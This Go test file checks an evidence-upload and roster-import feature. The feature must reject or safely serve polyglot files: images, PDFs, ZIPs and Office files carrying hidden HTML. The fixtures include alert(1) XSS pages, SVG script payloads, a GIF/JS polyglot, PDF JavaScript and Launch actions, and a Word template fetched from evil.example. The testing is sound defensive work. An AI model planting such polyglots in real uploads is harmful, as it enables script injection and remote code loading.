package app_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"image"
	"image/png"
	"io/fs"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"quxiang/internal/domain/access"
	"quxiang/internal/domain/fault"
	"quxiang/internal/domain/intake"
	"quxiang/internal/store/storetest"
)

const evilPage = `<!DOCTYPE html><html><body onload="alert(1)"><script>alert(1)</script></body></html>`

// pdf is a small paper with the objects, and more behind its end.
func pdf(objects, behind string) []byte {
	return []byte("%PDF-1.4\n1 0 obj\n<</Type /Catalog /Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type /Pages /Kids [] /Count 0>>\nendobj\n" + objects +
		"\ntrailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n" + behind)
}

// archive is a zip of the files, in turn name and content.
func archive(t *testing.T, files ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(files); i += 2 {
		w, err := z.Create(files[i])
		if err == nil {
			_, err = w.Write([]byte(files[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// commented is the photo with a segment of text behind its first mark.
func commented(photo []byte, text string) []byte {
	head := append([]byte{0xff, 0xfe}, binary.BigEndian.AppendUint16(nil, uint16(len(text)+2))...)
	return append(append(append(bytes.Clone(photo[:2]), head...), text...), photo[2:]...)
}

// screenshot is a PNG with a chunk of text behind its head.
func screenshot(t *testing.T, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewGray(image.Rect(0, 0, 200, 280))); err != nil {
		t.Fatal(err)
	}
	raw, head := b.Bytes(), 8+4+4+13+4
	chunk := append([]byte("tEXtComment\x00"), text...)
	out := append(bytes.Clone(raw[:head]), binary.BigEndian.AppendUint32(nil, uint32(len(chunk)-4))...)
	out = append(append(out, chunk...), binary.BigEndian.AppendUint32(nil, crc32.ChecksumIEEE(chunk))...)
	return append(out, raw[head:]...)
}

// polyglots are files of two natures; those that are taken lose the second one, but for
// a paper, which is kept as it is and served so that nothing else is made of it.
func polyglots(t *testing.T) (taken, refused map[string][]byte) {
	template := archive(t, "[Content_Types].xml", "<Types/>", "_rels/.rels", "<Relationships/>", "word/document.xml", "<w:document/>", "word/_rels/settings.xml.rels",
		`<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>`)
	macros := archive(t, "[Content_Types].xml", `<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>`, "xl/vbaProject.bin", "x")
	taken = map[string][]byte{
		"photo with a page in a note": commented(photo(t, 41), evilPage), "photo with a page behind it": append(photo(t, 42), evilPage...),
		"screenshot with a page": screenshot(t, evilPage), "photo called a page": photo(t, 43),
		"paper with a page in a note": pdf("%"+evilPage, ""), "paper with a page in a stream": pdf("3 0 obj\n<</Length 90>>\nstream\n"+evilPage+"\nendstream\nendobj", ""),
	}
	refused = map[string][]byte{
		"page": []byte(evilPage), "page called a paper": []byte("\n\n" + evilPage), "page, then a paper": append([]byte(evilPage), pdf("", "")...),
		"vector graphic with a script": []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "vector graphic with a head": []byte(`<?xml version="1.0"?><!DOCTYPE svg><svg onload="alert(1)"/>`),
		"animation that is a script": []byte("GIF89a/*\x01\x00\x01\x00*/=1;alert(1)"), "archived page": []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n" + evilPage),
		"photo and archive": append(photo(t, 44), archive(t, "a.html", evilPage)...), "paper and archive": append(pdf("", ""), archive(t, "a.html", evilPage)...),
		"paper with a script": pdf("3 0 obj\n<</S /JavaScript /JS (app.alert)>>\nendobj", ""), "paper that opens a program": pdf("3 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj", ""),
		"paper with a file inside":     pdf("3 0 obj\n<</Type /EmbeddedFile /Length 1>>\nstream\nx\nendstream\nendobj\n4 0 obj\n<</Type /Filespec /EF <</F 3 0 R>>>>\nendobj", ""),
		"text with a foreign template": template, "workbook with macros": macros,
	}
	return taken, refused
}

// TestFilesOfTwoNatures: what is refused leaves no file; what is taken comes back as one
// thing only, under headers that let nothing else be made of it; and none of them is a table
// to import (X20, S18, S29).
func TestFilesOfTwoNatures(t *testing.T) {
	c := newCampus(t, storetest.SQLite(t))
	a, _ := c.account("office", "", access.Grant{Role: access.Office, Over: access.School()})
	w, who, graduate := c.enter(a), access.Actor{Account: a.ID, Grants: a.Grants}, c.graduate("240001")
	taken, refused := polyglots(t)
	for name, raw := range refused {
		if _, err := c.app.Destinations.Upload(t.Context(), who, graduate, "CON", raw); fault.KindOf(err) != fault.Invalid {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, raw := range taken {
		d, err := c.app.Destinations.Upload(t.Context(), who, graduate, "CON", raw)
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		got := w.get("/evidence/" + graduate + "/" + d.SHA256)
		o, body := got.Header(), got.Body.Bytes()
		if got.Code != 200 || o.Get("Content-Type") != d.Media || http.DetectContentType(body) != d.Media || o.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.HasPrefix(o.Get("Content-Security-Policy"), "default-src 'none'") || o.Get("Cross-Origin-Resource-Policy") != "same-origin" {
			t.Errorf("%s: %d %v", name, got.Code, o)
		}
		if d.Media != "application/pdf" && bytes.Contains(body, []byte("<script")) {
			t.Errorf("%s: comes back with its page", name)
		}
	}
	files := 0
	err := filepath.WalkDir(filepath.Join(c.app.Data, "evidence"), func(_ string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files++
		}
		return err
	})
	if err != nil || files != len(taken) {
		t.Errorf("%d files for %d taken (%v)", files, len(taken), err)
	}
	for name, raw := range refused {
		for _, ending := range []string{".xlsx", ".csv"} {
			if _, err := c.app.Intake.Bring(t.Context(), who, "roster", name+ending, raw, intake.Options{Cohort: "2024"}); err == nil {
				t.Errorf("%s%s is a table", name, ending)
			}
		}
	}
}
